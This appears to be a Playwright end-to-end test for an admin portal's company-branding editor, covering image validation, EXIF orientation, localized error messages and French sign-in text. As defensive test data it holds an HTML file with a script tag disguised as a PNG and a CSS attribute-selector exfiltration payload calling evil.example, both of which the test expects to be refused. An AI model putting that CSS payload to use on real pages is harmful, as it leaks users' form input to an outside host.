// Company branding (SPEC A8, C11) edited entirely in the portal: the first administrator uploads a
// square logo, sees a wrong file and a too large image refused as they are chosen, a file only
// the server can judge refused under its field, a photo taken sideways measured as it is shown,
// and custom CSS that could read the page refused
// with the rule it breaks (each in English, then in French), then
// picks French in the language selector and sets a French sign-in text. A French customer's
// sign-in page shows the square logo and the French text; an English one keeps the default's.
// The branding is put back as it was at the end.
import { test, expect } from '@playwright/test';
import * as path from 'node:path';
import { AdminPortal, adminState } from './fixtures/admin_pages';

const BRANDING = '/api/graph/v1.0/organization/contoso/branding';

test.use({ storageState: adminState() });

test('a square logo and a French sign-in text set in the portal show on the French sign-in page', async ({
  page,
  baseURL,
  browser,
}) => {
  const headers = { 'x-sspr-csrf': '1', origin: baseURL! };
  try {
    const admin = new AdminPortal(page);
    await page.goto('/admin');
    await admin.open('Company branding');

    // A file that is not an image is refused as it is chosen, and said.
    await page.getByLabel('Square logo').setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('hello') });
    await expect(page.getByRole('alert').filter({ hasText: 'Choose a PNG, JPEG or WebP image.' })).toBeVisible();
    // So is an image wider than the slot allows, which the browser decodes to know (a PNG drawn
    // on a canvas, 600 × 10 pixels against the square logo's 480 × 480).
    const wide = await page.evaluate(() => {
      const canvas = document.createElement('canvas');
      canvas.width = 600;
      canvas.height = 10;
      return canvas.toDataURL('image/png').split(',')[1];
    });
    await page.getByLabel('Square logo').setInputFiles({ name: 'wide.png', mimeType: 'image/png', buffer: Buffer.from(wide, 'base64') });
    await expect(page.getByRole('alert').filter({ hasText: 'This image is 600 × 10 pixels; it may be at most 480 × 480.' })).toBeVisible();
    // A file the browser cannot decode is left to the server, whose refusal is said under the
    // field in the portal's language (an HTML page called page.png).
    const html = Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>');
    await page.getByLabel('Background image').setInputFiles({ name: 'page.png', mimeType: 'image/png', buffer: html });
    const background = page.waitForResponse((r) => r.request().method() === 'PUT' && r.url().endsWith('/backgroundImage'));
    await page.getByRole('button', { name: 'Save' }).click();
    expect((await background).status()).toBe(400);
    await expect(page.locator('#branding-background-image-error')).toHaveText('This file is not a PNG, JPEG or WebP image that can be read.');
    await expect(page.getByLabel('Background image')).toHaveAttribute('aria-invalid', 'true');
    await page.getByLabel(/Language|Langue/).selectOption('fr');
    await expect(page.locator('#branding-background-image-error')).toHaveText('Ce fichier n’est pas une image PNG, JPEG ou WebP lisible.');
    await page.getByLabel(/Language|Langue/).selectOption('en');
    await expect(page.getByText('Your changes are saved.')).toHaveCount(0);
    // A photo taken sideways: 1080 × 1920 pixels as stored, 1920 × 1080 as shown once its EXIF
    // orientation (6, a quarter turn) is applied. The browser and the server both measure it as
    // shown, so it fits the background image's 1920 × 1080.
    const sideways = await page.evaluate(() => {
      const canvas = document.createElement('canvas');
      canvas.width = 1080;
      canvas.height = 1920;
      return canvas.toDataURL('image/jpeg', 0.5).split(',')[1];
    });
    const jpeg = Buffer.from(sideways, 'base64');
    // An APP1 segment right after the start of image: "Exif\0\0", then a little-endian TIFF
    // header whose one IFD entry is Orientation (0x0112), a SHORT, 6.
    const tiff = Buffer.from([0x49, 0x49, 42, 0, 8, 0, 0, 0, 1, 0, 0x12, 0x01, 3, 0, 1, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0, 0]);
    const exif = Buffer.concat([Buffer.from('Exif\0\0', 'binary'), tiff]);
    const app1 = Buffer.concat([Buffer.from([0xff, 0xe1, (exif.length + 2) >> 8, (exif.length + 2) & 0xff]), exif]);
    const photo = Buffer.concat([jpeg.subarray(0, 2), app1, jpeg.subarray(2)]);
    await page.getByLabel('Background image').setInputFiles({ name: 'sideways.jpg', mimeType: 'image/jpeg', buffer: photo });
    await page.getByLabel('Square logo').setInputFiles(path.join(__dirname, 'fixtures', 'contoso-square.png'));
    await expect(page.locator('#branding-background-image-error')).toHaveText('');
    await expect(page.getByText('Choose a PNG, JPEG or WebP image.')).toHaveCount(0);
    await expect(page.getByText('This image is 600 × 10 pixels')).toHaveCount(0);

    // CSS that could read the page is refused; the server's reason is announced next to it.
    await page.getByLabel('Custom CSS').fill('input[value^="a"] { background: url(https://evil.example/a); }');
    const upload = page.waitForRequest((r) => r.method() === 'PUT' && r.url().endsWith('/squareLogo'));
    const css = page.waitForRequest((r) => r.method() === 'PUT' && r.url().endsWith('/customCSS'));
    await page.getByRole('button', { name: 'Save' }).click();
    // The image and the CSS, whose bodies are not JSON, still ask in the portal's language (the
    // browser's own header would say en-US).
    expect((await upload).headers()['accept-language']).toBe('en');
    expect((await css).headers()['accept-language']).toBe('en');
    const refused = page.getByRole('alert').filter({ hasText: 'This CSS was not saved:' });
    await expect(refused).toBeVisible();
    await expect(refused).toHaveText('This CSS was not saved: Line 1: Element selectors such as input are not allowed: use the documented class names.');
    await expect(page.getByLabel('Custom CSS')).toHaveAttribute('aria-invalid', 'true');
    // In French the reason reads from the portal's catalog, with the same line and selector.
    await page.getByLabel(/Language|Langue/).selectOption('fr');
    await expect(page.locator('#branding-css-error')).toHaveText("Cette feuille CSS n’a pas été enregistrée : Ligne 1 : Les sélecteurs d’élément comme input ne sont pas autorisés : utilisez les classes documentées.");
    await page.getByLabel(/Language|Langue/).selectOption('en');
    await expect(refused).toBeVisible();
    await page.getByLabel('Custom CSS').fill('');
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByText('Your changes are saved.')).toBeVisible();
    const saved = await (await page.request.get(BRANDING)).json();
    expect(saved.squareLogoRelativeUrl).toMatch(/^assets\/[0-9a-f]{64}\.png$/);
    expect(saved.backgroundImageRelativeUrl).toMatch(/^assets\/[0-9a-f]{64}\.jpg$/);

    // The French texts: the language selector switches the form to the French localization.
    await page.getByLabel('Texts for').selectOption('fr-FR');
    // The French form replaces the default's (and its "saved" notice) once it is loaded.
    await expect(page.getByText('Your changes are saved.')).toHaveCount(0);
    await expect(page.getByLabel('Sign-in page text')).toHaveValue('');
    await page.getByLabel('Sign-in page text').fill('Bienvenue chez Contoso : connectez-vous ici.');
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByText('Your changes are saved.')).toBeVisible();
    await expect
      .poll(async () => (await (await page.request.get(`${BRANDING}/localizations/fr-FR`)).json()).signInPageText)
      .toBe('Bienvenue chez Contoso : connectez-vous ici.');

    // A French customer sees the square logo and the French text.
    const frenchContext = await browser.newContext({ locale: 'fr-FR' });
    const customer = await frenchContext.newPage();
    await customer.goto('/sign-in');
    await expect(customer.getByText('Bienvenue chez Contoso : connectez-vous ici.')).toBeVisible();
    const logo = customer.getByRole('img', { name: 'Contoso' });
    await expect(logo).toBeVisible();
    await expect.poll(() => logo.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(96);
    await frenchContext.close();

    // An English one keeps the default's (no French text).
    const englishContext = await browser.newContext({ locale: 'en-GB' });
    const english = await englishContext.newPage();
    await english.goto('/sign-in');
    await expect(english.getByRole('img', { name: 'Contoso' })).toBeVisible();
    await expect(english.getByText('Bienvenue chez Contoso : connectez-vous ici.')).toHaveCount(0);
    await englishContext.close();
  } finally {
    await page.request.put(`${BRANDING}/squareLogo`, { headers: { ...headers, 'content-type': 'image/png' }, data: Buffer.alloc(0) });
    await page.request.put(`${BRANDING}/backgroundImage`, { headers: { ...headers, 'content-type': 'image/jpeg' }, data: Buffer.alloc(0) });
    await page.request.delete(`${BRANDING}/localizations/fr-FR`, { headers });
  }
});
